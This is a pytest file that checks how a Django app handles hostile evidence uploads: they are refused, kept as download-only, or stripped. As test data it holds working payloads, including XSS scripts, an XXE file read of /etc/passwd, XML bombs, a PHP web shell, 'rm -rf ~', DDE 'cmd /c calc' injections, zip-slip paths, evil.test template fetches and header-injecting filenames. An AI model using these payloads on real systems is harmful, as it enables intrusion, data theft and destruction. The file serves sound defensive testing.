"""Files that want to do harm: each is refused with a sentence, or kept where it can do none."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_STORED

import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from reports.evidence.kinds import read_evidence
from reports.evidence.refusals import NotEvidence
from reports.models import Attachment
from tests.reports.evidence.files import (
    DOC,
    TYPES,
    acting_pdf,
    compound,
    excel,
    old_excel,
    old_word,
    pdf,
    photo,
    relations,
    saved,
    types,
    word,
    word_related,
    word_with,
    zipped,
)

MACRO_MAIN = "application/vnd.ms-{}.{}.macroEnabled.main+xml"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><r>&b;</r>'
EXE = b"MZ\x90\0" + b"\0" * 200 + b"This program cannot be run in DOS mode."
RECORD = b"\0\0\0\0\0"


def png_of(size: tuple[int, int], chunks: bytes = b"") -> bytes:
    """A PNG that says it has this size."""
    head = chunk(b"IHDR", struct.pack(">LLBBBBB", *size, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + chunks + chunk(b"IDAT", zlib.compress(b"\0" * 10)) + chunk(b"IEND", b"")
    )


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))


def with_lie(data: bytes) -> bytes:
    """An archive that says of its largest member that it has ten bytes."""
    place = data.index(b"PK\1\2", data.rindex(b"xl/worksheets/sheet1.xml") - 60)
    return data[: place + 24] + struct.pack("<L", 10) + data[place + 28 :]


def doubled() -> bytes:
    return excel({"xl/workbook.xmm": "<other/>"}).replace(b"xl/workbook.xmm", b"xl/workbook.xml")


def with_password() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def moving(form: str) -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    return saved(frames[0], form, save_all=True, append_images=frames[1:])


def circle() -> bytes:
    """A compound file in which the directory's second sector follows itself."""
    table = DOC.rindex(struct.pack("<L", 0xFFFFFFFD)) // 512 * 512
    directory = struct.unpack_from("<L", DOC, 48)[0]
    return DOC[: table + 4 * directory] + struct.pack("<L", directory) + DOC[table + 4 * directory + 4 :]


FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p><w:p>"
DDE_LINK = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'

REFUSED = {
    "nothing": ("a.pdf", b"", "empty"),
    "only zeros": ("a.pdf", b"\0" * 5000, "empty"),
    "SVG with a script": ("a.png", SVG, "kind"),
    "HTML called PDF": ("a.pdf", HTML, "kind"),
    "HTML after a byte order mark": ("a.doc", b"\xef\xbb\xbf" + HTML, "kind"),
    "HTML in UTF-16": ("a.docx", HTML.decode().encode("utf-16"), "kind"),
    "MHTML": ("a.doc", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML, "kind"),
    "a program called JPEG": ("a.jpg", EXE, "kind"),
    "a Linux program": ("a.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 100, "kind"),
    "a shell script": ("a.png", b"#!/bin/sh\nrm -rf ~\n", "kind"),
    "PHP": ("a.jpg", b"<?php system($_GET['c']); ?>", "kind"),
    "PHP after a GIF's head": ("a.gif", b"GIF89a;<?php system('id'); ?>", "kind"),
    "GIF": ("a.gif", moving("GIF"), "kind"),
    "BMP": ("a.bmp", photo(form="BMP"), "kind"),
    "TIFF": ("a.tif", photo(form="TIFF"), "kind"),
    "HEIC": ("IMG_1.HEIC", b"\0\0\0\x24ftypheic" + b"\0" * 100, "heic"),
    "MP4": ("a.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100, "kind"),
    "RTF": ("a.doc", rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}", "kind"),
    "CSV with formulas": ("a.csv", b"=cmd|'/c calc'!A1,2\n", "kind"),
    "a shortcut": ("a.lnk", b"\x4c\0\0\0\x01\x14\x02\0" + b"\0" * 100, "kind"),
    "an ISO image": ("a.iso", b"\0" * 32768 + b"\x01CD001", "empty"),
    "7z": ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "archive"),
    "RAR": ("a.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 50, "archive"),
    "gzip": ("a.gz", b"\x1f\x8b\x08" + b"\0" * 50, "archive"),
    "tar": ("a.tar", b"x.txt".ljust(257, b"\0") + b"ustar\0", "kind"),
    "ZIP": ("a.docx", zipped({"a.txt": "x"}), "archive"),
    "an empty ZIP": ("a.zip", zipped({}), "archive"),
    "JAR": ("a.xlsx", zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "archive"),
    "OpenDocument": ("a.odt", zipped({"mimetype": "x", "content.xml": "<x/>"}), "kind"),
    "a presentation": (
        "a.pptx",
        zipped({TYPES: types(p="application/vnd.openxmlformats.presentation.main+xml")}),
        "kind",
    ),
    "a ZIP that leads outside": ("a.xlsx", excel({"../../etc/cron.d/x": "x"}), "mixed"),
    "a ZIP with an absolute path": ("a.xlsx", excel({"/etc/passwd": "x"}), "mixed"),
    "a ZIP with a path of Windows": ("a.xlsx", excel({"C:\\x.exe": "x"}), "mixed"),
    "a ZIP with one name twice": ("a.xlsx", doubled(), "mixed"),
    "HTML before a Word file": ("a.docx", HTML + word(), "kind"),
    "HTML behind a Word file": ("a.docx", word() + HTML, "damaged"),
    "a Word file behind a Word file": ("a.docx", word() + word(), "mixed"),
    "half a Word file": ("a.docx", word()[: len(word()) // 2], "damaged"),
    "a bomb": ("a.xlsx", excel({"xl/worksheets/sheet2.xml": b"\0" * 301 * 2**20}), "unpacked"),
    "a dense bomb": ("a.xlsx", excel({"xl/worksheets/sheet1.xml": b" " * 4 * 2**20}), "unpacked"),
    "a bomb that lies": ("a.xlsx", with_lie(excel({"xl/worksheets/sheet1.xml": b" " * 2**20})), "damaged"),
    "a bomb inside": (
        "a.docx",
        word_with({"word/embeddings/a.xlsx": excel({"xl/a.xml": b" " * 4 * 2**20})}),
        "unpacked",
    ),
    "a file in a file in a file": (
        "a.docx",
        word_with({"word/embeddings/a.xlsx": excel({"xl/embeddings/b.xlsx": excel()})}),
        "embedded",
    ),
    "3,001 members": ("a.xlsx", excel({f"x/{number}": b"" for number in range(3001)}), "unpacked"),
    "an external entity": ("a.docx", word_with({"docProps/app.xml": XXE}), "mixed"),
    "an external entity in UTF-16": (
        "a.docx",
        word_with(
            {"docProps/app.xml": XXE.decode().replace(' version="1.0"', ' version="1.0"').encode("utf-16")}
        ),
        "mixed",
    ),
    "an XML bomb": ("a.docx", word_with({"word/document.xml": LAUGHS}), "mixed"),
    "an XML bomb by another name": ("a.docx", word_with({"word/picture.png": LAUGHS}), "mixed"),
    "a document with macros": (
        "a.docx",
        word_with({TYPES: types(word__document_xml=MACRO_MAIN.format("word", "document"))}),
        "macros",
    ),
    "a project of macros": ("a.docx", word_related("vbaProject", "vbaProject.bin", external=False), "macros"),
    "a workbook with macros": (
        "a.xlsx",
        excel({TYPES: types(xl__workbook_xml=MACRO_MAIN.format("excel", "sheet"))}),
        "macros",
    ),
    "a sheet of old macros": (
        "a.xlsx",
        excel({"xl/_rels/workbook.xml.rels": relations("xlMacrosheet", "macrosheets/a.xml", external=False)}),
        "macros",
    ),
    "a template from the network": (
        "a.docx",
        word_related("attachedTemplate", "https://evil.test/a.dotm"),
        "fetching",
    ),
    "a template from a share": (
        "a.docx",
        word_related("attachedTemplate", r"\\evil.test\a.dotm"),
        "fetching",
    ),
    "a template from a file share": (
        "a.docx",
        word_related("attachedTemplate", "file://evil.test/a.dotm"),
        "fetching",
    ),
    "a picture from the network": ("a.docx", word_related("image", "http://evil.test/a.png"), "fetching"),
    "an object from the network": (
        "a.docx",
        word_related("oleObject", "mhtml:http://evil.test/a!x"),
        "embedded",
    ),
    "a frame of HTML": ("a.docx", word_related("aFChunk", "a.html", external=False), "embedded"),
    "an ActiveX control": (
        "a.docx",
        word_related("control", "activeX/activeX1.xml", external=False),
        "embedded",
    ),
    "a program inside": ("a.docx", word_with({"word/media/image9.jpg": EXE}), "embedded"),
    "an old object inside": ("a.docx", word_with({"word/embeddings/o.bin": DOC}), "embedded"),
    "a command in a field": ("a.docx", word_with({}, FIELD.format("DDE", "AUTO cmd /c calc")), "fetching"),
    "a command in a simple field": (
        "a.docx",
        word_with({}, '<w:p><w:fldSimple w:instr="DDE cmd /c calc"/></w:p><w:p>'),
        "fetching",
    ),
    "a field that fetches": (
        "a.docx",
        word_with({}, FIELD.format("INCLUDEPICTURE ", '"http://evil.test/a.png"')),
        "fetching",
    ),
    "DDE of a workbook": ("a.xlsx", excel({"xl/externalLinks/externalLink1.xml": DDE_LINK}), "fetching"),
    "a workbook linked to the network": (
        "a.xlsx",
        excel(
            {"xl/externalLinks/_rels/a.xml.rels": relations("externalLinkPath", "http://evil.test/a.xlsx")}
        ),
        "fetching",
    ),
    "a workbook that loads data": (
        "a.xlsx",
        excel({"xl/_rels/workbook.xml.rels": relations("connections", "connections.xml", external=False)}),
        "fetching",
    ),
    "an encrypted Word file": (
        "a.docx",
        compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        "protected",
    ),
    "old macros": ("a.doc", compound({"WordDocument": old_word()}, ("Macros", "VBA")), "macros"),
    "old macros of a workbook": (
        "a.xls",
        compound({"Workbook": old_excel()}, ("_VBA_PROJECT_CUR",)),
        "macros",
    ),
    "a macro sheet of Excel 4": (
        "a.xls",
        compound({"Workbook": old_excel((0x85, RECORD + b"\1\1\0A"))}),
        "macros",
    ),
    "an old workbook that is protected": (
        "a.xls",
        compound({"Workbook": old_excel((0x2F, b"\1\0"))}),
        "protected",
    ),
    "an old workbook with DDE": (
        "a.xls",
        compound({"Workbook": old_excel((0x1AE, b"\1\0\x0a\0\0cmd\x03/c calc"))}),
        "fetching",
    ),
    "an old document that is protected": ("a.doc", compound({"WordDocument": old_word(0x100)}), "protected"),
    "an old document with DDE": (
        "a.doc",
        compound({"WordDocument": old_word(text="\x13 DDEAUTO cmd".encode("utf-16-le"))}),
        "fetching",
    ),
    "a packed program": ("a.doc", compound({"WordDocument": old_word(), "\x01Ole10Native": EXE}), "embedded"),
    "an equation": ("a.doc", compound({"WordDocument": old_word(), "Equation Native": b"x"}), "embedded"),
    "an e-mail": ("a.msg", compound({"__properties_version1.0": b"x"}), "kind"),
    "half an old file": ("a.doc", DOC[:2000], "damaged"),
    "an old file in a circle": ("a.doc", circle(), "damaged"),
    "only the head of an old file": ("a.doc", DOC[:8], "damaged"),
    "an old file before an archive": ("a.doc", DOC + zipped({"A.class": "x"}), "mixed"),
    "a PDF with a password": ("a.pdf", with_password(), "protected"),
    "half a PDF": ("a.pdf", pdf()[:-60], "damaged"),
    "only the head of a PDF": ("a.pdf", b"%PDF-1.7\n%%EOF", "damaged"),
    "HTML before a PDF": ("a.pdf", HTML + pdf(), "mixed"),
    "a PDF before HTML": ("a.pdf", pdf() + HTML, "damaged"),
    "a PDF before an archive": ("a.pdf", pdf() + zipped({"A.class": "x"}), "mixed"),
    "a PDF before an archive and its end": (
        "a.pdf",
        pdf() + zipped({"A.class": "x"}) + b"\n%%EOF\n",
        "mixed",
    ),
    "a huge PNG": ("a.png", png_of((50000, 50000)), "pixels"),
    "a PNG larger than any": ("a.png", png_of((2**31 - 1, 2**31 - 1)), "pixels"),
    "a PNG with a bomb in its text": (
        "a.png",
        png_of((10, 10), chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 20 * 2**20))),
        "damaged",
    ),
    "half a JPEG": ("a.jpg", photo((600, 400))[:2000], "damaged"),
    "only the head of a JPEG": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 50, "damaged"),
    "a JPEG that never ends": ("a.jpg", b"\xff\xd8\xff\xe0\0\2" + b"\xff\xda\0\2" * 1000, "complex"),
    "a moving PNG": ("a.png", moving("PNG"), "moving"),
    "a moving WebP": ("a.webp", moving("WEBP"), "moving"),
}


HEADERS = (
    "Content-Type",
    "Content-Disposition",
    "X-Content-Type-Options",
    "Content-Security-Policy",
    "X-Frame-Options",
    "Cross-Origin-Resource-Policy",
    "Cache-Control",
)


def shown(response) -> dict[str, str]:
    return {name: response[name] for name in HEADERS}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_with_a_sentence(what, report, send):
    name, content, reason = REFUSED[what]
    response = send(name, content)
    said = {"version": 1, "attachments": [], "error": str(NotEvidence(reason))}
    assert (response.status_code, response.json()) == (422, said)
    assert Attachment.objects.count() == 0


def described(document, action: Dictionary) -> None:
    """Put it somewhere deep: in a page's entry, among arrays."""
    document.pages[0].AA = Dictionary(O=Dictionary(Next=Array([Array([action])])))


def with_file(document) -> None:
    document.attachments["a.exe"] = EXE


def with_form(document) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"))


def with_media(document) -> None:
    document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])


def with_nesting(document) -> None:
    nested = Array([])
    for _depth in range(200):
        nested = Array([nested])
    document.Root.Deep = nested


def with_hidden_script(document) -> None:
    described(document, Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


ACTING = {
    "a script at the start": acting_pdf(S="/JavaScript", JS="app.alert(1)"),
    "a program to start": acting_pdf(S="/Launch", F="calc.exe"),
    "a form to send": acting_pdf(S="/SubmitForm", F="http://evil.test"),
    "a way to another file": acting_pdf(S="/GoToR", F=r"\\evil.test\a.pdf"),
    "a script deep inside": pdf(with_hidden_script),
    "a script in packed objects": pdf(
        with_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "a script whose name is disguised": acting_pdf(S="/JavaScript", JS="x")
    .replace(b"/JavaScript", b"/J#61vaScrip#74")
    .replace(b"/JS", b"/#4AS"),
    "a program inside": pdf(with_file),
    "a form of programs": pdf(with_form),
    "rich media": pdf(with_media),
    "a maze": pdf(with_nesting),
    "a wrong table of contents": pdf().replace(b"xref", b"xxxx", 1),
}


@pytest.mark.parametrize("what", ACTING)
def test_a_pdf_that_acts_is_kept_as_it_is_and_only_downloaded(what, cast, report, send, as_user):
    assert send("Giấy mời.pdf", ACTING[what]).status_code == 200
    attachment = Attachment.objects.get()
    assert attachment.inert is False
    response = as_user(cast.owner).get(reverse("show-evidence", args=[attachment.pk]), {"open": "1"})
    assert b"".join(response.streaming_content) == ACTING[what]
    assert shown(response) == {
        "Content-Type": "application/pdf",
        "Content-Disposition": "attachment; filename*=utf-8''Gi%E1%BA%A5y%20m%E1%BB%9Di.pdf",
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'; sandbox",
        "X-Frame-Options": "DENY",
        "Cross-Origin-Resource-Policy": "same-origin",
        "Cache-Control": "private, no-store",
    }


def profile(payload: bytes) -> bytes:
    return (b"\0" * 16 + b"RGB " + b"\0" * 16 + b"acsp").ljust(128, b"\0") + payload


CARRYING = {
    "a JPEG before an archive": photo() + zipped({"A.class": b"<script>alert(1)</script>"}, ZIP_STORED),
    "a JPEG with HTML behind it": photo() + b"<script>alert(1)</script>",
    "a JPEG with HTML as its comment": photo(comment=b"<script>alert(1)</script>"),
    "a JPEG with HTML in its facts": photo(exif=b"Exif\0\0<script>alert(1)</script>"),
    "a JPEG with a large profile": photo(icc_profile=profile(b"<script>alert(1)</script>" * 1000)),
    "a JPEG with a strange profile": photo(icc_profile=b"<script>alert(1)</script>"),
    "a PNG with HTML in its text": photo(form="PNG")[:33]
    + chunk(b"tEXt", b"a\0<script>alert(1)</script>")
    + photo(form="PNG")[33:],
    "a PNG before HTML": photo(form="PNG") + b"<script>alert(1)</script>",
    "a WebP with XMP": photo(form="WEBP", xmp=b"<script>alert(1)</script>"),
}


@pytest.mark.parametrize("what", CARRYING)
def test_what_a_picture_carries_does_not_come_along(what, cast, report, send, as_user):
    assert b"<script>" in CARRYING[what]
    assert send("a.jpg", CARRYING[what]).status_code == 200
    attachment = Attachment.objects.get()
    response = as_user(cast.owner).get(reverse("show-evidence", args=[attachment.pk]), {"open": "1"})
    content = b"".join(response.streaming_content)
    assert (b"<script>" in content, b"PK" in content) == (False, False)
    assert Image.open(BytesIO(content)).size == (60, 40)
    form = "png" if b"PNG" in CARRYING[what][:8] else "jpeg"
    assert shown(response) == {
        "Content-Type": f"image/{form}",
        "Content-Disposition": f'inline; filename="a.{form.replace("e", "")}"',
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'; sandbox",
        "X-Frame-Options": "DENY",
        "Cross-Origin-Resource-Policy": "same-origin",
        "Cache-Control": "private, no-store",
    }


NAMES = {
    "a.pdf": "a.pdf",
    "Kế hoạch số 12/KH.pdf": "KH.pdf",
    "../../etc/passwd": "passwd.pdf",
    "C:\\Users\\x\\bien ban.PDF": "bien ban.pdf",
    "con\u202efdp.exe": "con fdp.exe.pdf",
    "a\u200b\u2066b.pdf": "a b.pdf",
    'a";x="b.html.pdf': "a__x=_b.html.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "a Set-Cookie_ x=1.pdf",
    "a\x00b.pdf": "a b.pdf",
    "<script>alert(1)</script>.pdf": "script_.pdf",
    "%2e%2e%2fa.pdf": "_2e_2e_2fa.pdf",
    ".htaccess": "htaccess.pdf",
    "…": "….pdf",
    " . . ": "tài liệu minh chứng.pdf",
    ".pdf": "tài liệu minh chứng.pdf",
    "ế" * 300 + ".docx": "ế" * 58 + ".pdf",
    "Biên bản.jpg": "Biên bản.pdf",
    "Bie\u0302n ba\u0309n": "Biên bản.pdf",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_becomes_a_plain_one(name, report, send):
    assert read_evidence(ContentFile(pdf(), name=name)).name == NAMES[name]
    response = send(name, pdf())
    assert response.status_code in (200, 422)
    for attachment in Attachment.objects.all():
        assert "\n" not in attachment.name
        assert "/" not in attachment.name
        assert storages["evidence"].exists(f"{attachment.digest[:2]}/{attachment.digest}")
